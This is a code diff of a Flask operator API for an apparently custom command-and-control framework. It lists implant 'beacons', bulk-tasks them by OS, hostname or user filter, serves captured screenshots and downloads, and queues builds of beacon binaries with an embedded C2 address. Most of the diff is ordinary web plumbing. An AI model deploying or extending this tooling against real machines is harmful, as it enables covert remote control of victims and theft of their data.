@@ -1,34 +1,68 @@
 # 操作的地方
-import os
-import shutil
-import subprocess
-import uuid
-from flask import Blueprint, jsonify, current_app, request, send_file
+import base64
+import hashlib
+import json
+import logging
+from datetime import datetime, timedelta
+from flask import Blueprint, jsonify, current_app, request, send_file, Response, stream_with_context
 from flask_jwt_extended import jwt_required
-from server.persistence.database import get_db_session
+from config import Config
+from server.persistence.database import get_db_session, get_pool_stats
+from server.persistence.models import TaskOutput
 
 # 蓝图定义，URL 前缀为 /operator
 operator_bp = Blueprint('operator_api', __name__, url_prefix='/api/operator')
 
+log = logging.getLogger(__name__)
+
 def get_services():
     """从应用配置中获取所有共享的服务实例"""
     app_config = current_app.config
     return {
         'crypto_mgr': app_config['CRYPTO_MANAGER'],
         'beacon_service': app_config['BEACON_SERVICE'],
-        'task_service': app_config['TASK_SERVICE']
+        'task_service': app_config['TASK_SERVICE'],
+        'event_bus': app_config['EVENT_BUS'],
+        'build_queue': app_config['BUILD_QUEUE']
     }
 
 
 # 获取所有 Beacon 列表 (GET /operator/beacons)
+# ?since=<游标> 只返回游标之后有变化的 Beacon，游标在响应头 X-Beacons-Cursor 里
+# 带 If-None-Match 且整个列表没变化时直接返回 304
 @operator_bp.route('/beacons', methods=['GET'])
 @jwt_required()
 def list_beacons():
     services = get_services()
     beacon_service = services['beacon_service']
+
+    since = request.args.get('since')
+    if since:
+        try:
+            since_time = datetime.fromisoformat(since)
+        except ValueError:
+            return jsonify({'error': f'Invalid since cursor: {since[:64]}'}), 400
+
     with get_db_session() as db:
-        # 获取所有 Beacon，按最后签入时间倒序排列
-        beacons = beacon_service.get_all_beacons(db)
+        # 先用两个聚合算出整个列表的版本，没变化就不用查表
+        count, last_updated = beacon_service.get_fleet_version(db)
+        cursor = last_updated.isoformat() if last_updated else ''
+        etag = hashlib.sha1(f"{count}|{cursor}|{since or ''}".encode('utf-8')).hexdigest()[:20]
+
+        if etag in request.if_none_match:
+            response = Response(status=304)
+            response.set_etag(etag)
+            response.headers['X-Beacons-Cursor'] = cursor
+            return response
+
+        if since:
+            # 增量模式：游标往前退一点，重复的记录前端按 id 覆盖
+            beacons = beacon_service.get_beacons_changed_since(
+                db, since_time - timedelta(seconds=Config.BEACON_DELTA_OVERLAP_SECONDS)
+            )
+        else:
+            # 获取所有 Beacon，按最后签入时间倒序排列
+            beacons = beacon_service.get_all_beacons(db)
 
         # 格式化输出，用于 Web UI
         beacon_list = [
@@ -44,7 +78,64 @@ def list_beacons():
             for b in beacons
         ]
 
-    return jsonify(beacon_list), 200
+    response = jsonify(beacon_list)
+    response.set_etag(etag)
+    response.headers['X-Beacons-Cursor'] = cursor
+    # 浏览器每次都带 If-None-Match 回来验证，控制台不用改就能拿到 304
+    response.headers['Cache-Control'] = 'private, no-cache'
+    return response, 200
+
+
+# 操作员事件流 (GET /operator/events)，Server-Sent Events
+# 任务创建/完成、Beacon 注册/失联时推送，控制台订阅一次就不用轮询任务结果了
+# EventSource 不能带请求头，所以 token 也可以放在 ?jwt= 里
+# ?topics=task,beacon 只订阅部分主题
+@operator_bp.route('/events', methods=['GET'])
+@jwt_required(locations=['headers', 'query_string'])
+def event_stream():
+    event_bus = get_services()['event_bus']
+    topics = [t for t in request.args.get('topics', '').split(',') if t]
+    subscription = event_bus.subscribe(topics)
+
+    def generate():
+        try:
+            # 先发一条，让客户端知道订阅成功了
+            yield "event: ready\ndata: {}\n\n"
+            while True:
+                events, dropped = subscription.get(timeout=Config.EVENT_KEEPALIVE_SECONDS)
+                if dropped:
+                    # 客户端太慢，缓冲区溢出丢了事件，通知它重新拉一次全量
+                    yield f"event: overflow\ndata: {json.dumps({'dropped': dropped})}\n\n"
+                if not events:
+                    # 保活，顺便让断开的连接尽快抛出异常结束
+                    yield ": keepalive\n\n"
+                    continue
+                for grimoire_event in events:
+                    payload = json.dumps({**grimoire_event.data, 'timestamp': grimoire_event.timestamp})
+                    yield f"id: {grimoire_event.id}\nevent: {grimoire_event.type}\ndata: {payload}\n\n"
+        finally:
+            subscription.close()
+
+    response = Response(generate(), mimetype='text/event-stream')
+    response.headers['Cache-Control'] = 'no-cache'
+    # 反向代理不要缓冲事件流
+    response.headers['X-Accel-Buffering'] = 'no'
+    return response
+
+
+# 数据库连接池监控 (GET /operator/metrics/db)
+@operator_bp.route('/metrics/db', methods=['GET'])
+@jwt_required()
+def db_pool_metrics():
+    return jsonify(get_pool_stats()), 200
+
+
+# 会话存储监控 (GET /operator/metrics/sessions)
+@operator_bp.route('/metrics/sessions', methods=['GET'])
+@jwt_required()
+def session_store_metrics():
+    crypto_mgr = get_services()['crypto_mgr']
+    return jsonify(crypto_mgr.sessions.stats()), 200
 
 
 # 创建新任务 (POST /operator/task/create)
@@ -79,6 +170,69 @@ def create_new_task():
         return jsonify({'message': 'Task created successfully', 'task_id': task.task_id}), 201
 
 
+# 批量创建任务 (POST /operator/task/bulk)
+# 请求体: {"command": .., "arguments": .., "beacon_ids": [..]}
+#     或: {"command": .., "arguments": .., "filter": {"os": "*Windows*", "hostname": "LAB-*", "user": ..}}
+@operator_bp.route('/task/bulk', methods=['POST'])
+@jwt_required()
+def create_bulk_tasks():
+    services = get_services()
+    task_service = services['task_service']
+
+    data = request.get_json() or {}
+    command = data.get('command')
+    beacon_ids = data.get('beacon_ids')
+    beacon_filter = data.get('filter') or {}
+
+    if not command:
+        return jsonify({'error': 'Missing command type'}), 400
+    if not isinstance(command, str) or not isinstance(data.get('arguments') or '', str):
+        return jsonify({'error': 'command and arguments must be strings'}), 400
+    if beacon_ids is not None and (not isinstance(beacon_ids, list)
+                                   or not all(isinstance(beacon_id, str) for beacon_id in beacon_ids)):
+        return jsonify({'error': 'beacon_ids must be a list of strings'}), 400
+    if not isinstance(beacon_filter, dict) or not all(isinstance(v, str) for v in beacon_filter.values() if v):
+        return jsonify({'error': 'filter must be an object of string patterns'}), 400
+
+    with get_db_session() as db:
+        try:
+            batch = task_service.create_tasks_bulk(
+                db, command, data.get('arguments'),
+                beacon_ids=beacon_ids,
+                os_pattern=beacon_filter.get('os'),
+                hostname_pattern=beacon_filter.get('hostname'),
+                user_pattern=beacon_filter.get('user')
+            )
+        except ValueError as e:
+            return jsonify({'error': str(e)}), 400
+
+    return jsonify({
+        'message': f'{len(batch.created)} task(s) created',
+        'batch_id': batch.batch_id,
+        'tasks': [{'task_id': task_id, 'beacon_id': beacon_id} for task_id, beacon_id in batch.created],
+        'rejected': batch.rejected,
+    }), 201 if batch.created else 200
+
+
+# 查询批量任务的汇总进度 (GET /operator/task/batch/<batch_id>)
+@operator_bp.route('/task/batch/<string:batch_id>', methods=['GET'])
+@jwt_required()
+def get_batch_summary(batch_id):
+    task_service = get_services()['task_service']
+
+    with get_db_session() as db:
+        summary = task_service.get_batch_summary(db, batch_id)
+
+    if not summary:
+        return jsonify({'error': f'Batch {batch_id} not found'}), 404
+
+    return jsonify({
+        'batch_id': batch_id,
+        'total': sum(summary.values()),
+        'by_status': summary,
+    }), 200
+
+
 # 查询特定任务结果 (GET /operator/task/output/<task_id>)
 @operator_bp.route('/task/output/<int:task_id>', methods=['GET'])
 @jwt_required()
@@ -96,8 +250,8 @@ def get_task_output(task_id):
         task = task_info.task
         task_output = task_info.output  # task_output 可能是 None，如果任务未执行完
 
-        # 确定内容和格式
-        output_data = task_output.output_data if task_output else None
+        # 确定内容和格式，接口依旧返回 Base64，前端不用改
+        output_data = base64.b64encode(task_service.read_output(task_output)).decode('utf-8') if task_output else None
 
         # 确定内容类型：前端依赖这个字段来决定是直接显示文本还是 Base64 解码
         if task.command in ['screenshot', 'download']:
@@ -119,11 +273,53 @@ def get_task_output(task_id):
             'output_content': output_data,  # 可能是 Base64 字符串或纯文本
         })
 
+# 流式/分段读取任务回显的原始字节 (GET /operator/task/output/<task_id>/raw)
+# 支持 Range: bytes=start-end，大文件不用整个读进内存
+@operator_bp.route('/task/output/<int:task_id>/raw', methods=['GET'])
+@jwt_required()
+def get_task_output_raw(task_id):
+    services = get_services()
+    task_service = services['task_service']
+
+    with get_db_session() as db:
+        task_info = task_service.get_task_output_by_id(db, task_id)
+        if not task_info or not task_info.output:
+            return jsonify({'error': f'No output for task ID {task_id}'}), 404
+        output = task_info.output
+        db.expunge(output)
+
+    total = output.output_size if output.output_size is not None else len(task_service.read_output(output))
+    start, end, status = 0, total, 200
+
+    byte_range = request.range
+    if byte_range is not None:
+        range_tuple = byte_range.range_for_length(total)
+        if range_tuple is None:
+            return jsonify({'error': 'Requested range not satisfiable'}), 416
+        start, end = range_tuple
+        status = 206
+
+    response = Response(
+        stream_with_context(task_service.iter_output(output, start, end)),
+        status=status,
+        mimetype='application/octet-stream'
+    )
+    response.headers['Accept-Ranges'] = 'bytes'
+    response.headers['Content-Length'] = str(end - start)
+    if status == 206:
+        response.headers['Content-Range'] = f'bytes {start}-{end - 1}/{total}'
+    if output.output_hash:
+        response.headers['ETag'] = f'"{output.output_hash}"'
+    return response
+
+
 @operator_bp.route('/task/history/<string:beacon_id>', methods=['GET'])
 @jwt_required()
 def get_beacon_history(beacon_id):
     """
-    根据 Beacon ID (SF) 查询该植入物的所有任务历史记录和输出。
+    根据 Beacon ID (SF) 分页查询该植入物的任务历史记录和输出预览。
+    参数: ?limit=每页条数&cursor=上一页响应头 X-Next-Cursor 的值
+    响应体还是任务列表，有下一页时在 X-Next-Cursor 头里返回游标。
     """
     services = get_services()
     task_service = services['task_service']
@@ -134,129 +330,112 @@ def get_beacon_history(beacon_id):
         if not beacon_id or len(beacon_id) != 64:
             return jsonify({"error": "Invalid Beacon ID format. Must be 64 characters."}), 400
 
-        with get_db_session() as db:
-            # 从服务层获取该 Beacon 的所有任务记录
-            history_list = task_service.get_tasks_by_beacon_id(db, beacon_id)
+        limit = request.args.get('limit', Config.HISTORY_PAGE_SIZE, type=int)
+        cursor = request.args.get('cursor')
 
-            if not history_list:
-                return jsonify([]), 200  # 该 Beacon 尚未执行任何任务
+        with get_db_session() as db:
+            # 从服务层获取这一页的任务记录，回显只带预览
+            try:
+                page = task_service.get_task_history_page(db, beacon_id, limit=limit, cursor=cursor)
+            except ValueError as e:
+                return jsonify({"error": str(e)}), 400
 
             formatted_history = []
-            for task_info in history_list:
-                # task_info 应该是一个包含 task 和 output 属性的聚合对象 (类似你 get_task_output 中的 task_info)
-                task = task_info.task
-                output = task_info.output
-
+            for row in page.rows:
                 # 确定内容和格式
-                output_content = output.content if output else None
-
-                if output and task.command in ['screenshot', 'download']:
+                if row.received_at and row.command in TaskOutput.BINARY_COMMANDS:
                     content_type = 'base64'
                 else:
                     content_type = 'text'
 
                 # 格式化结果列表
                 formatted_history.append({
-                    'task_id': task.task_id,
-                    'status': task.status,
-                    'command': task.command,
-                    'arguments': task.arguments,
-                    'assigned_at': task.assigned_at.isoformat() if task.assigned_at else None,
-                    'completed_at': task.completed_at.isoformat() if task.completed_at else None,
+                    'task_id': row.task_id,
+                    'status': row.status,
+                    'command': row.command,
+                    'arguments': row.arguments,
+                    'created_at': row.created_at.isoformat() if row.created_at else None,
+                    'assigned_at': row.assigned_at.isoformat() if row.assigned_at else None,
+                    # 任务没有单独的完成时间，回显到达即完成
+                    'completed_at': row.received_at.isoformat() if row.received_at else None,
 
                     'output_type': content_type,
-                    # 仅返回输出预览，不返回完整大数据（例如整个 Base64 截图）
-                    'output_preview': output_content[:200] + "..." if output_content and len(
-                        output_content) > 200 else output_content,
-                    'output_received_at': output.received_at.isoformat() if output else None
+                    'output_size': row.output_size,
+                    # 仅返回输出预览，完整内容走 /task/output/<task_id>
+                    'output_preview': row.output_preview,
+                    'output_received_at': row.received_at.isoformat() if row.received_at else None
                 })
 
-            return jsonify(formatted_history), 200
+        response = jsonify(formatted_history)
+        if page.next_cursor:
+            response.headers['X-Next-Cursor'] = page.next_cursor
+        return response, 200
 
     except Exception as e:
-        print(f"[ERROR] Failed to retrieve task history for {beacon_id}: {e}")
+        log.exception("Failed to retrieve task history for %s: %s", beacon_id[:8], e, extra={"beacon_id": beacon_id})
         return jsonify({"error": "Internal server error"}), 500
 
 
 @operator_bp.route('/payload/generate', methods=['POST'])
 @jwt_required()
 def generate_payload():
-    win_env = os.environ.copy()
+    """
+    提交一个 Beacon 构建任务，立即返回任务 ID，编译在后台的构建线程里跑。
+    相同配置已经有缓存时任务直接是 DONE，可以马上下载。
+    """
+    build_queue = get_services()['build_queue']
     data = request.json
-    c2_host = data.get('host', '127.0.0.1')
-    c2_port = data.get('port', '8080')
+    c2_host = str(data.get('host', '127.0.0.1'))
+    c2_port = str(data.get('port', '8080'))
     c2_proto = data.get('protocol', 'http://')
     target_os = data.get('platform', 'windows')  # 获取前端传来的平台
+    priority = data.get('priority', 0)           # 越小越先编
 
-    base_dir = os.path.abspath(os.path.join(os.path.dirname(__file__), ".."))
-    source_dir = os.path.join(base_dir, "beacon")
-
-    # 临时目录
-    build_id = str(uuid.uuid4())[:8]
-    work_dir = os.path.abspath(os.path.join(base_dir, f"tmp/build_{build_id}"))
-    os.makedirs(work_dir, exist_ok=True)
+    if build_queue.build_service.platform_spec(target_os) is None:
+        return jsonify({"error": "不支持的平台，你难道想编个游戏机版吗？"}), 400
+    if not isinstance(priority, int):
+        return jsonify({"error": "priority must be an integer"}), 400
 
     try:
-        cmake_configure = ["cmake"]
-
-        if target_os == 'windows':
-            clion_mingw_bin = "D:/IDEs/CLion 2025.3.2/bin/mingw/bin"
-            clion_mingw_bin = os.path.normpath(clion_mingw_bin)
-            win_env["PATH"] = clion_mingw_bin + os.pathsep + win_env["PATH"]
-            cmake_configure += [
-                "-G", "MinGW Makefiles",
-                f"-DCMAKE_C_COMPILER={os.path.join(clion_mingw_bin, 'gcc.exe')}",
-                f"-DCMAKE_CXX_COMPILER={os.path.join(clion_mingw_bin, 'g++.exe')}",
-                f"-DCMAKE_MAKE_PROGRAM={os.path.join(clion_mingw_bin, 'mingw32-make.exe')}"
-            ]
-            extension = ".exe"
-            binary_name = "GrimoireBeacon.exe"
-
-        elif target_os == 'linux':
-            cmake_configure += [
-                "-G", "Unix Makefiles",
-                "-DCMAKE_C_COMPILER=gcc",
-                "-DCMAKE_CXX_COMPILER=g++"
-            ]
-            extension = ".elf"
-            binary_name = "GrimoireBeacon"# Linux 默认没后缀
-        else:
-            return jsonify({"error": "不支持的平台，你难道想编个游戏机版吗？"}), 400
-
-        # 注入注入宏定义
-        cmake_configure += [
-            f"-DC2_HOST_CONFIG={c2_host}",
-            f"-DC2_PORT_CONFIG={c2_port}",
-            f"-DC2_PROTOCOL_CONFIG={c2_proto}",
-            "-DCMAKE_BUILD_TYPE=Release",
-            source_dir
-        ]
-
-
+        job = build_queue.submit(target_os, c2_host, c2_port, c2_proto, priority=priority)
+    except ValueError as e:
+        return jsonify({"error": str(e)}), 400
+    except OverflowError as e:
+        return jsonify({"error": str(e)}), 429
 
-        # 配置并编译
-        result = subprocess.run(cmake_configure, cwd=work_dir, capture_output=True, text=True, encoding='utf-8',env=win_env)
+    return jsonify({
+        **job.to_dict(build_queue.queue_position(job)),
+        'status_url': f"/api/operator/payload/jobs/{job.job_id}",
+        'download_url': f"/api/operator/payload/jobs/{job.job_id}/download",
+    }), 202
 
 
-        # if result.returncode != 0:
-        #     print(result.stdout)
-        #     print(result.stderr)
-        #     return jsonify({
-        #         "error": "CMake失败",
-        #         "details": result.stderr if result.stderr else result.stdout
-        #     }), 500
-
-
-
-        subprocess.run(["cmake", "--build", ".", "--config", "Release", "-j4"],
-                       cwd=work_dir, capture_output=True, text=True, check=True,env=win_env)
-
+# 查询构建任务状态 (GET /operator/payload/jobs/<job_id>)
+@operator_bp.route('/payload/jobs/<string:job_id>', methods=['GET'])
+@jwt_required()
+def get_build_job(job_id):
+    build_queue = get_services()['build_queue']
+    job = build_queue.get(job_id)
+    if not job:
+        return jsonify({"error": f"Build job {job_id} not found"}), 404
+    return jsonify(job.to_dict(build_queue.queue_position(job))), 200
 
-        payload_path = os.path.join(work_dir, binary_name)
-        if os.path.exists(payload_path):
-            return send_file(payload_path, as_attachment=True, download_name=f"Grimoire_{build_id}{extension}")
 
-    except subprocess.CalledProcessError as e:
-        return jsonify({"error": "失败", "details": e.stderr or e.stdout}), 500
-    finally:
-        pass
\ No newline at end of file
+# 下载构建产物 (GET /operator/payload/jobs/<job_id>/download)
+@operator_bp.route('/payload/jobs/<string:job_id>/download', methods=['GET'])
+@jwt_required()
+def download_build_artifact(job_id):
+    build_queue = get_services()['build_queue']
+    job = build_queue.get(job_id)
+    if not job:
+        return jsonify({"error": f"Build job {job_id} not found"}), 404
+    if job.status == 'FAILED':
+        return jsonify({"error": "失败", "details": job.details or job.error}), 500
+    if job.status != 'DONE':
+        return jsonify({"error": f"Build job is {job.status}"}), 409
+
+    # 产物可能已经因为过期被清理掉了，按缓存键再查一次
+    result = build_queue.build_service.lookup(job.target_os, job.cache_key)
+    if not result:
+        return jsonify({"error": "Artifact expired, please generate again"}), 410
+    return send_file(result.path, as_attachment=True, download_name=result.download_name)